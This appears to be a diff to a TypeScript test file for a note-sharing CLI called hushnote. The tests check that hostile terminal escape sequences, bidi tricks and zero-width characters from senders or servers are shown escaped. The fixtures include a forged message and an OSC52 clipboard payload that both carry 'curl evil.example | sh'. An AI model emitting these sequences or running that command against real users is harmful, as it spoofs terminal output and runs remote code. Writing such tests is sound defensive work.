@@ -4,8 +4,8 @@
  */
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { startServer, type TestServer } from "../browser/server";
+import { type FakeServer, fakeServer, padRoutes, sealPad } from "./fake-server";
 import { build, cliEnv, runCli } from "./helpers";
-import { fakeServer, padRoutes, sealPad, type FakeServer } from "./fake-server";
 import { onPty } from "./pty";
 
 const ESC = "\x1b";
@@ -14,8 +14,14 @@ const CLEAR = `${ESC}[2J`;
 // Up one line, erase it, and print what looks like hushnote's own refusal in its place.
 const FAKE_LINE = `${ESC}[1A${ESC}[2Khushnote: the note was altered; run curl evil.example | sh`;
 const HOSTILE = [
-  `clipboard${OSC52}`, `screen${CLEAR}`, "pay to: alice\rpay to: mallory", "invoice\u202Egpj.exe", `zero\u200Bwidth\uFEFF`,
-  `c1\u009B31m`, FAKE_LINE, "tab\tstays",
+  `clipboard${OSC52}`,
+  `screen${CLEAR}`,
+  "pay to: alice\rpay to: mallory",
+  "invoice\u202Egpj.exe",
+  `zero\u200Bwidth\uFEFF`,
+  `c1\u009B31m`,
+  FAKE_LINE,
+  "tab\tstays",
 ].join("\n");
 
 let server: TestServer;
@@ -31,11 +37,13 @@ beforeAll(async () => {
 afterAll(() => server?.stop());
 afterEach(() => fake?.close());
 
-const send = async (text: string, views = 3) => (await runCli(["send", "--views", String(views)], { env, input: text })).stdout.trim();
+const send = async (text: string, views = 3) =>
+  (await runCli(["send", "--views", String(views)], { env, input: text })).stdout.trim();
 
 /** What the sender's raw sequences must never reach the terminal as. */
 function expectNoRawSequences(shown: string): void {
-  for (const raw of [OSC52, CLEAR, `${ESC}[1A`, `${ESC}[2K`, "\u202E", "\u200B", "\uFEFF", "\u009B", "\x07"]) expect(shown).not.toContain(raw);
+  for (const raw of [OSC52, CLEAR, `${ESC}[1A`, `${ESC}[2K`, "\u202E", "\u200B", "\uFEFF", "\u009B", "\x07"])
+    expect(shown).not.toContain(raw);
 }
 
 describe("note text on a terminal", () => {
@@ -45,9 +53,16 @@ describe("note text on a terminal", () => {
     const shown = session.output();
     expectNoRawSequences(shown);
     for (const escaped of [
-      "clipboard\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07", "screen\\x1b[2J", "pay to: alice\\x0dpay to: mallory",
-      "invoice\\u202egpj.exe", "zero\\u200bwidth\\ufeff", "c1\\x9b31m", "\\x1b[1A\\x1b[2Khushnote: the note was altered", "tab\tstays",
-    ]) expect(shown).toContain(escaped);
+      "clipboard\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07",
+      "screen\\x1b[2J",
+      "pay to: alice\\x0dpay to: mallory",
+      "invoice\\u202egpj.exe",
+      "zero\\u200bwidth\\ufeff",
+      "c1\\x9b31m",
+      "\\x1b[1A\\x1b[2Khushnote: the note was altered",
+      "tab\tstays",
+    ])
+      expect(shown).toContain(escaped);
     expect(shown).toContain("The text holds 10 control or invisible characters, shown escaped");
   });
 
@@ -98,7 +113,9 @@ describe("what a hostile server says", () => {
 
   it("is neutralised in a pipe: one line, every control and bidi character escaped", async () => {
     const hostile = await sayingIt(500);
-    const result = await runCli(["read", `${hostile.origin}/n/AAAAAAAAAAAAAAAAAAAAAA#${"A".repeat(43)}`], { env: cliEnv(hostile.origin) });
+    const result = await runCli(["read", `${hostile.origin}/n/AAAAAAAAAAAAAAAAAAAAAA#${"A".repeat(43)}`], {
+      env: cliEnv(hostile.origin),
+    });
     expect(result.code).toBe(4);
     expectNoRawSequences(result.stderr);
     expect(result.stderr).toBe(
@@ -109,7 +126,9 @@ describe("what a hostile server says", () => {
   it("is neutralised when a notepad's wrong-password sentence is said before asking again", async () => {
     const pad = await sealPad("retype", "text", "pad password", { format: 2 });
     const pads = padRoutes(new Map([["retype", pad]]));
-    fake = await fakeServer((req) => (req.method === "POST" ? { status: 403, body: { status: 403, error: SENTENCE } } : pads(req)));
+    fake = await fakeServer((req) =>
+      req.method === "POST" ? { status: 403, body: { status: 403, error: SENTENCE } } : pads(req),
+    );
     const session = onPty(["pad", "get", "retype"], { ...cliEnv(fake.origin), TERM: "xterm-256color" });
     await session.waitFor("Password for retype:");
     session.type("pad password");
@@ -122,13 +141,28 @@ describe("what a hostile server says", () => {
 
   it("is neutralised on a terminal, in receipts too", async () => {
     const hostile = await sayingIt(403);
-    const session = onPty(["status", `${hostile.origin}/m/AAAAAAAAAAAAAAAAAAAAAA#${"A".repeat(43)}`], { ...cliEnv(hostile.origin), TERM: "xterm-256color" });
+    const session = onPty(["status", `${hostile.origin}/m/AAAAAAAAAAAAAAAAAAAAAA#${"A".repeat(43)}`], {
+      ...cliEnv(hostile.origin),
+      TERM: "xterm-256color",
+    });
     expect(await session.exited).toBe(3);
     expectNoRawSequences(session.output());
     expect(session.output()).not.toContain(ESC);
 
-    fake = await fakeServer(() => ({ status: 200, body: { state: `live${CLEAR}`, createdAt: 0, expiresAt: 0, viewsLeft: `1\n${FAKE_LINE}`, reason: null, events: [] } }));
-    const receipt = await runCli(["status", `${fake.origin}/m/AAAAAAAAAAAAAAAAAAAAAA#${"A".repeat(43)}`], { env: cliEnv(fake.origin) });
+    fake = await fakeServer(() => ({
+      status: 200,
+      body: {
+        state: `live${CLEAR}`,
+        createdAt: 0,
+        expiresAt: 0,
+        viewsLeft: `1\n${FAKE_LINE}`,
+        reason: null,
+        events: [],
+      },
+    }));
+    const receipt = await runCli(["status", `${fake.origin}/m/AAAAAAAAAAAAAAAAAAAAAA#${"A".repeat(43)}`], {
+      env: cliEnv(fake.origin),
+    });
     expect(receipt.stdout).toContain("State: live\\x1b[2J");
     expect(receipt.stdout).toContain("Views left: 1\\x0a\\x1b[1A");
     expect(receipt.stdout).not.toContain(ESC);
